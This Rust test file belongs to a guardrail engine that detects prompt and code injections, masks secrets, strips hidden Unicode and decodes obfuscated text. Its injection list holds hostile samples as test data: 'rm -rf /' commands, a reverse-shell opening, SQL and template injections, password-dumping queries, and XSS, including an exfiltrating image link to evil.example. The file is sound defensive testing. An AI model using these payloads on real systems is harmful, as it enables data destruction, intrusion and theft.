//! Rails of text: what they find, and what they leave alone.

use std::sync::{Arc, Mutex};

use fathom_base::clock::Clock;
use fathom_guard::needs::Languages;
use fathom_guard::{Config, Context, Decision, Direction, Engine, Metrics, Needs, Outcome, Subject};

use crate::support::{engine, needs};

/// Injections of every family.
const INJECTIONS: &[&str] = &[
    r##"import os; os.system('rm -rf /')"##,
    r##"import os"##,
    r##"from subprocess import run"##,
    r##"import subprocess as sp"##,
    r##"import socket,subprocess,os;s=socket.socket()"##,
    r##"Here is code: `import requests`"##,
    r##"import urllib.request"##,
    r##"from os import system"##,
    r##"from http import server"##,
    r##"import asyncio"##,
    "import shutil\nshutil.rmtree(\"/\")",
    r##"import numpy, os"##,
    r##"from bs4 import BeautifulSoup"##,
    r##"import mechanize"##,
    r##"__import__('os').system('id')"##,
    r##"' OR '1'='1"##,
    r##"' OR 1=1 --"##,
    r##"admin'--"##,
    r##"1' UNION SELECT username, password FROM users--"##,
    r##"1; DROP TABLE users"##,
    r##"'; DROP TABLE users; --"##,
    r##"SELECT * FROM users; DROP TABLE users;"##,
    r##"SELECT * FROM users WHERE name = '' OR '1'='1'"##,
    r##"SELECT * FROM users WHERE id = 1; TRUNCATE users"##,
    r##"SELECT * FROM users WHERE username = 'admin' --"##,
    r##"DELETE FROM users WHERE id = 1 -- comment"##,
    r##"INSERT INTO users VALUES ('a', 'b'); -- x"##,
    r##"SELECT name FROM pg_shadow"##,
    r##"SELECT CHAR(75)+CHAR(76)+CHAR(77)"##,
    r##"1 UNION/**/SELECT 1,2,3 -- "##,
    r##"EXEC xp_cmdshell('dir'); --"##,
    r##"'; EXEC master..xp_cmdshell 'ping 1.1.1.1'--"##,
    r##"ALTER TABLE users ADD admin int; -- done"##,
    r##"UPDATE users SET password='x' WHERE id=1; --"##,
    r##"CREATE USER evil IDENTIFIED BY 'x'; GRANT ALL"##,
    r##"SELECT pg_sleep(10); --"##,
    r##"1 AND 1=1 UNION ALL SELECT NULL,version()--"##,
    r##"x' AND email IS NULL; --"##,
    r##"x' AND 1=(SELECT COUNT(*) FROM tabname); --"##,
    r##"SELECT * FROM users WHERE name LIKE '%admin%' /* comment"##,
    r##"id=1;DELETE FROM logs"##,
    r##"select load_file('/etc/passwd');-- "##,
    r##"' union select null,null from information_schema.tables--"##,
    r##"{{ 7*7 }}"##,
    r##"{{config.items()}}"##,
    r##"{{ ''.__class__.__mro__[2].__subclasses__() }}"##,
    r##"{% for c in [].__class__.__base__.__subclasses__() %}{{c}}{% endfor %}"##,
    r##"{% import os %}{{ os.popen("ls").read() }}"##,
    r##"<script>alert(1)</script>"##,
    r##"<script src=//evil.example/x.js></script>"##,
    r##"<a href="javascript:alert(1)">x</a>"##,
    r##"[click](javascript:alert(1))"##,
    r##"![x](https://evil.example/steal?d=secret)"##,
    r##"<img src=x onerror=alert(1)>"##,
    r##"<svg/onload=alert(1)>"##,
    r##"<iframe src="javascript:alert(1)"></iframe>"##,
    r##"<SCRIPT>document.cookie</SCRIPT>"##,
];

fn judged(rail: &str, text: &str) -> Outcome {
    let engine = engine(&format!("[[rail]]\non = [\"retrieval\"]\n{rail}\n"));
    engine.judge(text, &Subject::new(Direction::Retrieval, Arc::new(Context::default())))
}

fn blocks(rail: &str, text: &str) -> bool {
    judged(rail, text).blocked.is_some()
}

/// G9: at least 95 % of the injections, at most 1 % of the handbook's paragraphs.
#[test]
fn injections_are_found_and_the_handbook_passes() {
    let missed: Vec<&&str> = INJECTIONS.iter().filter(|it| !blocks("use = \"injection\"", it)).collect();
    assert!(missed.len() * 20 <= INJECTIONS.len(), "{missed:?}");
    let engine = engine("[[rail]]\nuse = \"injection\"\non = [\"input\"]\n");
    let subject = Subject::new(Direction::Input, Arc::new(Context::default()));
    let (mut all, mut refused) = (0, Vec::new());
    for entry in std::fs::read_dir(concat!(env!("CARGO_MANIFEST_DIR"), "/../../docs")).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_none_or(|it| it != "md") {
            continue;
        }
        for paragraph in std::fs::read_to_string(path).unwrap().split("\n\n") {
            all += 1;
            if engine.judge(paragraph, &subject).blocked.is_some() {
                refused.push(paragraph.to_string());
            }
        }
    }
    eprintln!("{} of {all} paragraphs of the handbook are refused", refused.len());
    assert!(all > 500 && refused.len() * 100 <= all, "{refused:?}");
}

#[test]
fn secrets_are_found_by_their_formats_and_masked() {
    let rail = "use = \"secrets\"\naction = \"mask\"";
    for (text, expected) in [
        ("My key AKIAIOSFODNN7EXAMPLE is old", "My key <AWS_ACCESS_KEY> is old"),
        ("ghp_0123456789abcdefghijABCDEFGHIJ012345", "<GITHUB>"),
        ("password = \"q8Zk20Vb77xTrPw3\"", "password = \"<ASSIGNED_VALUE>\""),
        ("postgres://bob:hunter2@db/x", "<URL_PASSWORD>db/x"),
        (
            "a\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn\n-----END OPENSSH PRIVATE KEY-----\nb",
            "a\n<PRIVATE_KEY>\nb",
        ),
        ("-----BEGIN EC PRIVATE KEY-----\nMHc", "<PRIVATE_KEY>"),
        ("sk-ant-api03-0123456789012345678901234567890123456789012345678901234567890123", "<ANTHROPIC>"),
        (
            "The token: nothing here, and secret: yourpassword123",
            "The token: nothing here, and secret: yourpassword123",
        ),
        (
            "The keyboard key-value store has tokens = 4096 by default.",
            "The keyboard key-value store has tokens = 4096 by default.",
        ),
    ] {
        assert_eq!(judged(rail, text).text, expected);
    }
}

#[test]
fn hidden_text_is_omitted_and_joined_scripts_and_pictures_stay() {
    let rail = "use = \"hidden_text\"\naction = \"omit\"";
    for (text, expected) in [
        ("Hi\u{e0049}\u{e0067}\u{e006e}!", "Hi!"),
        ("a\u{202e}b\u{2066}c", "abc"),
        ("pass\u{200b}word\u{feff}", "password"),
        ("क्\u{200d}ष नमस्ते می\u{200c}خواهم", "क्\u{200d}ष नमस्ते می\u{200c}خواهم"),
        (
            "👩\u{200d}👩\u{200d}👧 ❤\u{fe0f} 🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}",
            "👩\u{200d}👩\u{200d}👧 ❤\u{fe0f} 🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}",
        ),
        ("\u{200d}x\u{0}y", "xy"),
    ] {
        assert_eq!(judged(rail, text).text, expected, "{text:?}");
    }
    assert!(blocks("use = \"hidden_text\"\naction = \"block\"\nkinds = [\"homoglyph\"]", "pаypal"));
    assert!(!blocks("use = \"hidden_text\"\naction = \"block\"\nkinds = [\"homoglyph\"]", "Привет, paypal"));
}

#[test]
fn encoded_text_is_decoded_to_a_bounded_depth_and_judged() {
    let rail = "use = \"encodings\"\npatterns = ['forbidden']";
    for text in [
        "Run aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3JtIC1yZiAvJyk= now",
        "666f7262696464656e2074657874",
        "%66%6F%72bidden",
        "\\x66\\x6f\\x72bidden",
        "&#102;&#x6f;rbidden",
        "sbeovqqra",
        "Wm05eVltbGtaR1Z1SUhSbGVIUT0=",
        "'; QEBC GNOYR hfref; --",
    ] {
        assert!(blocks(rail, text), "{text}");
    }
    for text in [
        "Nothing here, 1234567890abcdef1234567890abcdef and sha256 too.",
        "100 % of 5 %",
        "SGVsbG8gd29ybGQsIGZpbmU=",
    ] {
        assert!(!blocks(rail, text), "{text}");
    }
}

#[test]
fn long_and_repetitive_texts_are_found_or_truncated() {
    let words: String =
        (0..2000).map(|n: u32| format!("{} ", n.wrapping_mul(2_654_435_761) % 99_991)).collect();
    assert!(blocks("use = \"length\"", &words));
    assert!(!blocks("use = \"length\"\nmin_entropy = 3.0", &words));
    assert!(blocks("use = \"length\"\nmax_repetition = 0.4", &"the same words again and ".repeat(20)));
    assert!(blocks("use = \"length\"\nmax_run = 0.1", &format!("some text {}", "A".repeat(300))));
    let cut = judged("use = \"length\"\nmax_chars = 5\naction = \"truncate\"", "äöüäöüx");
    assert_eq!((cut.text.as_str(), cut.verdicts[0].decision), ("äöüäö", Decision::Rewrite));
}

struct German;

impl Languages for German {
    fn identify(&self, text: &str) -> Option<(String, f64)> {
        text.contains("ich")
            .then(|| ("de".to_string(), 0.9))
            .or((text.len() > 5).then(|| ("en".to_string(), 0.9)))
    }
}

fn with(needs: Needs, rail: &str) -> Engine {
    let text = format!("[[rail]]\non = [\"input\"]\n{rail}\n");
    let config = Config::parse(&text, std::path::Path::new("guard.toml"), &needs).unwrap();
    Engine::new(Arc::new(config), needs.clock.clone(), Arc::new(Metrics::default()))
}

#[test]
fn languages_are_allowed_or_blocked_with_their_own_refusal() {
    let needs = Needs { languages: Some(Arc::new(German)), ..needs() };
    let subject = Subject::new(Direction::Input, Arc::new(Context::default()));
    let engine = with(needs.clone(), "use = \"language\"\nrefusal_messages = { de = \"Nur Englisch.\" }");
    let refused = engine.judge("Das bin ich", &subject);
    assert_eq!(refused.block().unwrap().message.as_deref(), Some("Nur Englisch."));
    assert!(engine.judge("This is me", &subject).blocked.is_none());
    let engine = with(needs, "use = \"language\"\nblocked_languages = [\"en\"]\nfail_open = false");
    assert!(engine.judge("Das bin ich", &subject).blocked.is_none());
    assert!(engine.judge("This is me", &subject).blocked.is_some());
    assert!(engine.judge("x?", &subject).blocked.is_some() && engine.judge("12", &subject).blocked.is_none());
}

#[test]
fn requests_of_a_key_are_limited_within_a_time() {
    let now = Arc::new(Mutex::new(0.0));
    let reads = now.clone();
    let needs = Needs { clock: Clock::of(move || *reads.lock().unwrap()), ..needs() };
    let engine = with(needs, "use = \"rate\"\nmax_requests = 2\nper_s = 10.0");
    let of = |key: &str| {
        let context = Context { key: Some(key.into()), ..Context::default() };
        engine.judge("Hi", &Subject::new(Direction::Input, Arc::new(context))).blocked.is_none()
    };
    assert_eq!([of("a"), of("a"), of("a"), of("b")], [true, true, false, true]);
    *now.lock().unwrap() = 10.0;
    assert!(of("a"));
}

#[test]
fn patterns_and_words_are_found_by_linear_automata() {
    let words: String = (0..10_000).map(|n| format!("\"zq{n}word\", ")).collect();
    let engine = engine(&format!("[[rail]]\nuse = \"regex\"\non = [\"input\"]\nwords = [{words}]\n"));
    let subject = Subject::new(Direction::Input, Arc::new(Context::default()));
    assert!(engine.judge("a zq77word b", &subject).blocked.is_some());
    assert!(engine.judge("a xzq77word b", &subject).blocked.is_none());
    // A pattern that takes exponential time where it backtracks.
    let rail = "use = \"regex\"\npatterns = ['(a+)+$', '(?:x|xx)+y']\nhold = \"all\"";
    assert!(!blocks(rail, &format!("{}b", "a".repeat(100_000))));
    assert!(!blocks(rail, &"x".repeat(100_000)));
}
